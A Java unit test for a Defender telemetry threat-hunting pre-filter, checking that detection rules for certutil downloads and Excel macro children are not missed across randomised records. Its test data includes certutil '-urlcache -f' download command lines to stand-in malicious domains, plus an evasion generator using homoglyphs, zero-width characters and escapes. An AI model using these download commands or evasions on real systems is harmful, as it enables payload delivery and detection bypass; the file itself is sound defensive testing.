package dev.bazahunt.telemetry;

import static dev.bazahunt.telemetry.DefenderTelemetrySamples.FILE_ROW;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.NETWORK_ROW;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.PROCESS_ROW;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.batch;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.envelope;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.envelopeWithCategoryLast;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.withColumn;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.without;
import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.rules.CertutilDownloadRule;
import dev.bazahunt.rules.ExcelMacroActivity;
import dev.bazahunt.rules.HardenedCertutilRule;
import dev.bazahunt.rules.RuleColumns;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;

/**
 * The pre-filter with the hardened rule's needles ({@link HardenedCertutilRule#PREFILTER_NEEDLES}) must
 * keep every unit in which parsing everything finds a hardened match, a faithful match or an Excel child;
 * the faithful needles alone must keep every faithful match and Excel child. Checked on 30,000 seeded
 * random units that go beyond one shape of row:
 * <ul>
 *   <li>wire forms: flat rows with a {@code Type} column, flat rows whose table comes from the file
 *       (the hint matches the row's own table), Sentinel rows with {@code TimeGenerated} only, union
 *       columns ({@code ReportId_long}), Storage envelopes with the category first or last, Event Hubs
 *       batches mixing tables;
 *   <li>tables: file, process, network, DeviceEvents and DeviceRegistryEvents rows;
 *   <li>command lines: the hardened corpus's evasions (option characters, verbs, quotes inside words,
 *       apostrophes, inserted and modifier letters, fullwidth forms, JSON escapes of letters) and
 *       benign lines, in random case, with whitespace around colons and truncation.
 * </ul>
 */
class HardenedPrefilterConservativenessTest {
    private static final String DEVICE_EVENTS_ROW = """
            {"Timestamp":"2021-07-21T09:14:05.0000000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
            "ActionType":"AntivirusDetection","FileName":"mso4021.dll","InitiatingProcessFileName":"qv7t.exe",\
            "InitiatingProcessCommandLine":"qv7t.exe -urlcache -f http://k3vd9xq0wz.top/r","ReportId":20433}""";
    private static final String REGISTRY_ROW = """
            {"Timestamp":"2021-07-21T09:14:06.0000000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
            "ActionType":"RegistryValueSet","RegistryKey":"HKEY_CURRENT_USER\\\\Software\\\\Run",\
            "InitiatingProcessFileName":"EXCEL.EXE","ReportId":20434}""";
    private static final String[] OPTION_CHARS = {"-", "/", "\u2013", "\u2212", "\uFF0D", "\\u2013", "\\/"};
    private static final String[] VERBS = {"urlcache", "url", "verifyctl", "verify", "URLCACHE", "UrL", "split", "f"};
    private static final String[] SCHEMES = {"http", "https", "HTTP", "hTtPs", "h\\\"ttp", "ht'tp", "htt\\\"\\\"p",
        "\\u0068ttp", "htt\\u0070s", "h\u200btt\u200bp", "\uff48ttp", "h\u1d57tp", "hxxp", "ftp", "http\\u003a"};
    private static final String[] DISGUISES = {"url\\\"cache", "url'cache", "u\u1d58rlcache", "url\u0378cache",
        "\u1d58rlc\u1d43che", "\uff55\uff52\uff4ccache", "u\\u0072lcache", "urlcache", "verify\u200bctl"};
    private static final String[] BENIGN_LINES = {
        "\\\"OneDrive.exe\\\" /background", "svchost.exe -k NetworkService -p -s CryptSvc", "cmd.exe /c whoami /groups",
        "chrome.exe --app-url=https://mail.contoso.com/", "notepad.exe C:\\\\Users\\\\j.doe\\\\don't.txt",
        "explorer.exe", "powershell.exe -Command \\\"Get-Date\\\""};
    private static final String[] FILE_NAMES = {"\"x8k2.exe\"", "\"certutil.exe\"", "\"cmd.exe\"", "\"EXCEL.EXE\"",
        "\"excel.exe\"", "\"e\\u0078cel.exe\"", "\"OneDrive.exe\"", "null"};

    @Test
    void theNeedlesKeepEveryUnitTheRulesNeed() {
        SplittableRandom random = new SplittableRandom(20211105);
        int hardenedMatches = 0;
        int skippedByBoth = 0;
        int keptOnlyForHardened = 0;
        for (int i = 0; i < 30_000; i++) {
            Unit unit = randomUnit(random);
            byte[] bytes = unit.text.getBytes(StandardCharsets.UTF_8);
            Findings all = Findings.of(parse(bytes, unit.hint));
            boolean faithfulKeeps = RawPrefilter.mayMatter(bytes);
            boolean hardenedKeeps = faithfulKeeps || HardenedCertutilRule.PREFILTER_NEEDLES.foundIn(bytes);

            Findings faithfulView = faithfulKeeps ? all : Findings.NONE;
            assertThat(faithfulView.faithful).as("faithful needles on %s", unit.text).isEqualTo(all.faithful);
            assertThat(faithfulView.excelChildren).as("faithful needles on %s", unit.text).isEqualTo(all.excelChildren);
            Findings hardenedView = hardenedKeeps ? all : Findings.NONE;
            assertThat(hardenedView).as("hardened needles on %s", unit.text).isEqualTo(all);

            hardenedMatches += all.hardened.size();
            skippedByBoth += hardenedKeeps ? 0 : 1;
            keptOnlyForHardened += hardenedKeeps && !faithfulKeeps && !all.hardened.isEmpty() ? 1 : 0;
        }
        // Not vacuous: hardened matches are common, many of them only the hardened needles keep, and the
        // needles still let a good share of the units be skipped. (The rule files' needles, certutil.exe
        // among them, already keep most units that name certutil, so fewer are kept for the hardened
        // rule alone than with the faithful needle only.)
        String counts = "hardened matches " + hardenedMatches + ", kept only for the hardened rule "
                + keptOnlyForHardened + ", skipped " + skippedByBoth;
        assertThat(hardenedMatches).as(counts).isGreaterThan(3_000);
        assertThat(keptOnlyForHardened).as(counts).isGreaterThan(50);
        assertThat(skippedByBoth).as(counts).isGreaterThan(2_000);
    }

    @Test
    void eachKindOfHardenedFindingIsAFinding() {
        RawNeedles needles = HardenedCertutilRule.PREFILTER_NEEDLES;
        assertThat(needles.foundIn(bytes("{\"a\":\"x -url -f HtTp://h/x\"}"))).isTrue();
        assertThat(needles.foundIn(bytes("{\"a\":\"x -url -f h\\\"t\\\"tp://h/x\"}"))).as("escaped quotes in a word").isTrue();
        assertThat(needles.foundIn(bytes("{\"a\":\"x -url -f ht''tp://h/x\"}"))).as("apostrophes in a word").isTrue();
        assertThat(needles.foundIn(bytes("{\"a\":\"x -\u1d58rl\"}"))).as("a non-ASCII byte").isTrue();
        assertThat(needles.foundIn(bytes("{\"a\":\"x -\\u0075rl\"}"))).as("a JSON escape").isTrue();
        assertThat(needles.foundIn(bytes("{\"a\":\"C:\\\\users\\\\x \\\"C:\\\\a b\\\" /background\"}")))
                .as("quotes beside spaces and backslashes, an escaped backslash before u").isFalse();
        assertThat(needles.foundIn(bytes("{\"a\":\"x -urlcache -f ftp://h/x\"}"))).isFalse();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static CollectingSink parse(byte[] bytes, DefenderTable hint) {
        CollectingSink sink = new CollectingSink();
        new DefenderRecordParser(RuleColumns.builtIn()).parse(bytes, 0, bytes.length, hint, sink);
        return sink;
    }

    private record Unit(String text, DefenderTable hint) {}

    private record Row(String json, String table) {}

    private static Unit randomUnit(SplittableRandom random) {
        int form = random.nextInt(6);
        int records = form == 5 ? 1 + random.nextInt(3) : 1;
        List<Row> rows = new ArrayList<>();
        for (int r = 0; r < records; r++) {
            rows.add(randomRow(random));
        }
        Row first = rows.get(0);
        String text;
        DefenderTable hint = null;
        switch (form) {
            case 0 -> text = "{\"Type\":\"" + first.table + "\"," + first.json.substring(1);
            case 1 -> {
                text = first.json;
                hint = DefenderTable.fromNameOrCategory(first.table);
            }
            case 2 -> {
                String sentinel = first.json.replace("\"Timestamp\"", "\"TimeGenerated\"").replace("\"ReportId\"", "\"ReportId_long\"");
                text = "{\"TenantId\":\"8a4e7c2b\",\"Type\":\"" + first.table + "\"," + sentinel.substring(1);
            }
            case 3 -> text = envelope(first.table, first.json);
            case 4 -> text = envelopeWithCategoryLast(first.table, first.json);
            default -> text = batch(rows.stream().map(row -> envelope(row.table, row.json)).toArray(String[]::new));
        }
        if (random.nextInt(3) == 0) {
            text = DefenderTelemetrySamples.spaceOutColons(text, random);
        }
        if (random.nextInt(12) == 0) {
            text = text.substring(0, random.nextInt(text.length()));
        }
        return new Unit(random.nextBoolean() ? text : DefenderTelemetrySamples.randomCase(text, random), hint);
    }

    private static Row randomRow(SplittableRandom random) {
        Row row = switch (random.nextInt(6)) {
            case 0, 1 -> new Row(FILE_ROW, "DeviceFileEvents");
            case 2 -> new Row(PROCESS_ROW, "DeviceProcessEvents");
            case 3 -> new Row(NETWORK_ROW, "DeviceNetworkEvents");
            case 4 -> new Row(DEVICE_EVENTS_ROW, "DeviceEvents");
            default -> new Row(REGISTRY_ROW, "DeviceRegistryEvents");
        };
        String json = row.json;
        if (random.nextInt(3) != 0) {
            json = withColumn(json, "InitiatingProcessFileName", FILE_NAMES[random.nextInt(FILE_NAMES.length)]);
        }
        if (random.nextInt(4) != 0) {
            json = withColumn(json, "InitiatingProcessCommandLine", "\"" + commandLine(random) + "\"");
        }
        if (random.nextInt(5) == 0) {
            json = without(json, "InitiatingProcessVersionInfoOriginalFileName");
        }
        return new Row(json, row.table);
    }

    /** A certutil-like download in one of its evasive spellings, or a benign line. */
    private static String commandLine(SplittableRandom random) {
        if (random.nextInt(4) == 0) {
            return BENIGN_LINES[random.nextInt(BENIGN_LINES.length)];
        }
        String option = OPTION_CHARS[random.nextInt(OPTION_CHARS.length)];
        String verb = random.nextBoolean() ? VERBS[random.nextInt(VERBS.length)] : DISGUISES[random.nextInt(DISGUISES.length)];
        String scheme = SCHEMES[random.nextInt(SCHEMES.length)];
        String split = random.nextBoolean() ? " " + option + "split" : "";
        String separator = random.nextInt(5) == 0 ? "," : " ";
        return "x8k2.exe " + option + verb + split + separator + option + "f " + scheme + "://pshe0pxe339.xyz/a.php"
                + " C:\\\\Users\\\\Public\\\\x8k2\\\\tmp1834.dll";
    }



    /** What the hunt takes from a unit, by report id: each rule's matches and the Excel children. */
    private record Findings(List<Long> faithful, List<Long> hardened, List<Long> excelChildren) {
        static final Findings NONE = new Findings(List.of(), List.of(), List.of());

        static Findings of(CollectingSink sink) {
            List<Long> faithful = new ArrayList<>();
            List<Long> hardened = new ArrayList<>();
            for (DeviceFileEvent event : sink.fileEvents) {
                if (CertutilDownloadRule.matches(event)) {
                    faithful.add(event.reportId);
                }
                if (HardenedCertutilRule.matches(event)) {
                    hardened.add(event.reportId);
                }
            }
            List<Long> children = new ArrayList<>();
            for (DeviceProcessEvent event : sink.processEvents) {
                if (ExcelMacroActivity.isExcelChild(event)) {
                    children.add(event.reportId);
                }
            }
            return new Findings(faithful, hardened, children);
        }
    }
}
